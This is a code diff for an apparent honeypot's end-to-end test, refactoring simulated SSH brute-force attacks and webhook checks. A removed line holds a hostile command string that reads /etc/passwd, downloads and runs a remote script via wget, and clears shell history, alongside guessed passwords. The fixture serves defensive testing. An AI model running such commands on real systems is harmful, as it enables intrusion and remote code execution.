@@ -12,7 +12,8 @@ import { readFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { promisify } from 'node:util';
 import { CLI_BUILT, waitFor } from '../helpers/env.ts';
-import { sshAttack, startFleet, type Fleet } from '../helpers/fleet.ts';
+import { startFleet, type Fleet } from '../helpers/fleet.ts';
+import { BOT_COMMAND, sshAttack } from '../helpers/ssh-attack.ts';
 import { openDatabase, type Database } from '../../src/db/connection.ts';
 import { getAttackersByIps, getBehaviors } from '../../src/db/attackers/repo.ts';
 import { listTagsSince } from '../../src/db/ttp/repo.ts';
@@ -20,7 +21,6 @@ import { verifyWebhook } from '../../src/notify/webhook-sign.ts';
 
 const run = promisify(execFile);
 const SECRET = 'grouped-e2e-receiver-secret-0123456789';
-const COMMAND = 'uname -a; cat /etc/passwd; wget http://198.51.100.7/x.sh; chmod +x x.sh; ./x.sh; history -c';
 
 let fleet: Fleet;
 let receiver: Server;
@@ -76,8 +76,8 @@ async function scenario(): Promise<void> {
     }
   }, 10_000, 'the webhook worker to load the new subscription');
 
-  await sshAttack(web.ip, first, ['letmein', 'toor', 'admin'], COMMAND);
-  await sshAttack(files.ip, second, ['admin']);
+  await sshAttack({ host: web.ip, from: first }, ['letmein', 'toor', 'admin'], BOT_COMMAND);
+  await sshAttack({ host: files.ip, from: second }, ['admin']);
   const attacked = Date.now();
 
   // Events, both credentials and the reuse record.
